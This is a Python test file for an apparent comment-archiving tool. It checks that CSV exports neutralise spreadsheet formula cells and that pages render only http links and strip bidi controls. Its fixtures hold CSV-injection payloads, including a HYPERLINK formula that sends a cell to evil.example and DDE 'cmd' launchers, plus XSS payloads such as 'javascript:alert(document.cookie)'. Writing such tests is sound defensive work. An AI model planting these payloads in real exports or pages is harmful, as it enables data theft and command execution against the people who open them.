"""Input hygiene: spreadsheet formulas in CSV exports, links and bidi controls in pages, server
paths in errors, and the generic importer's column mapping on the upload page."""

import csv
import io

from tests.web.conftest import csrf_of

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0",
           "-2+3", "\tleading tab", "\rcarriage return", "a plain comment", "a = b + c"]


def hostile_case(otk, tmp_path):
    otk("case", "new", "h1", "--subject", "Someone")
    src = tmp_path / "rows.csv"
    with open(src, "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "body", "who"])
        for i, text in enumerate(HOSTILE):
            w.writerow([f"c{i}", text, "=evil()" if i == 0 else f"user{i}"])
    otk("import", "--case", "h1", "--format", "generic", "--map", "id=id,text=body,author=who", src)
    return "h1"


def exported(output: str) -> dict[str, dict]:
    return {r["platform_id"]: r for r in csv.DictReader(io.StringIO(output))}


def test_csv_exports_neutralise_formula_cells(otk, tmp_path):
    case = hostile_case(otk, tmp_path)
    rows = exported(otk("export", "--case", case, "--format", "csv").output)
    texts = [rows[f"c{i}"]["text"] for i in range(len(HOSTILE))]
    assert texts == ["'" + t for t in HOSTILE[:6]] + HOSTILE[6:]
    assert rows["c0"]["author"] == "'=evil()"
    assert rows["c1"]["likes"] == "" and rows["c1"]["platform"] == "other"  # other cells untouched


def test_neutralising_can_be_switched_off_and_jsonl_is_never_changed(otk, tmp_path):
    import json

    case = hostile_case(otk, tmp_path)
    rows = exported(otk("export", "--case", case, "--format", "csv", "--no-neutralise").output)
    assert [rows[f"c{i}"]["text"] for i in range(len(HOSTILE))] == HOSTILE
    lines = [json.loads(x) for x in otk("export", "--case", case, "--format", "jsonl").output.splitlines()]
    assert sorted(r["text"] for r in lines) == sorted(HOSTILE)


def test_the_export_help_says_so(otk):
    out = otk("export", "--help").output
    assert "--no-neutralise" in out and "apostrophe" in out


def test_the_web_export_is_neutralised_too(as_role, demo_home):
    import sqlite3

    con = sqlite3.connect(demo_home / "otklik.sqlite")
    cid = con.execute("SELECT id FROM comment ORDER BY id LIMIT 1").fetchone()[0]
    con.execute("UPDATE comment SET text='=HYPERLINK(\"http://evil.example\")' WHERE id=?", (cid,))
    con.commit()
    con.close()
    e = as_role("eve")
    r = e.post("/cases/demo/export", data={"format": "csv", "csrf": csrf_of(e)})
    texts = [row["text"] for row in csv.DictReader(io.StringIO(r.text))]
    assert "'=HYPERLINK(\"http://evil.example\")" in texts
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]


# ------------------------------------------------------------ links and bidi controls in pages

def tamper(home, sql, *args):
    import sqlite3

    con = sqlite3.connect(home / "otklik.sqlite")
    con.execute(sql, args)
    con.commit()
    con.close()


def first_comment(home):
    import sqlite3

    con = sqlite3.connect(home / "otklik.sqlite")
    row = con.execute("SELECT id, post_id FROM comment ORDER BY id LIMIT 1").fetchone()
    con.close()
    return row


def test_only_http_links_are_rendered(as_role, demo_home):
    cid, post_id = first_comment(demo_home)
    v = as_role("vic")
    tamper(demo_home, "UPDATE post SET url='https://example.org/p/1' WHERE id=?", post_id)
    assert 'href="https://example.org/p/1"' in v.get(f"/cases/demo/comments/{cid}").text
    for bad in ("javascript:alert(document.cookie)", " JavaScript:alert(1)", "java\tscript:alert(1)",
                "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x"):
        tamper(demo_home, "UPDATE post SET url=? WHERE id=?", bad, post_id)
        for page in (f"/cases/demo/comments/{cid}", "/cases/demo"):
            html = v.get(page).text
            assert "script:" not in html.lower().replace("script-src", "") and "data:text" not in html
            assert "evil.example" not in html


def test_bidi_overrides_cannot_reverse_the_page(as_role, demo_home):
    import re

    v = as_role("vic")
    cid = re.search(r'/cases/demo/comments/(\d+)"', v.get("/cases/demo/comments").text).group(1)  # the list's first
    text = "\u202eesrever\u202c in the middle \u2067isolated\u2069 end"
    tamper(demo_home, "UPDATE comment SET text=? WHERE id=?", text, cid)
    detail = v.get(f"/cases/demo/comments/{cid}").text
    assert "<bdi>esrever in the middle isolated end</bdi>" in detail  # the text, isolated, controls dropped
    listing = v.get("/cases/demo/comments").text
    assert "esrever in the middle isolated end" in listing
    for html in (detail, listing):
        assert not any(ch in html for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
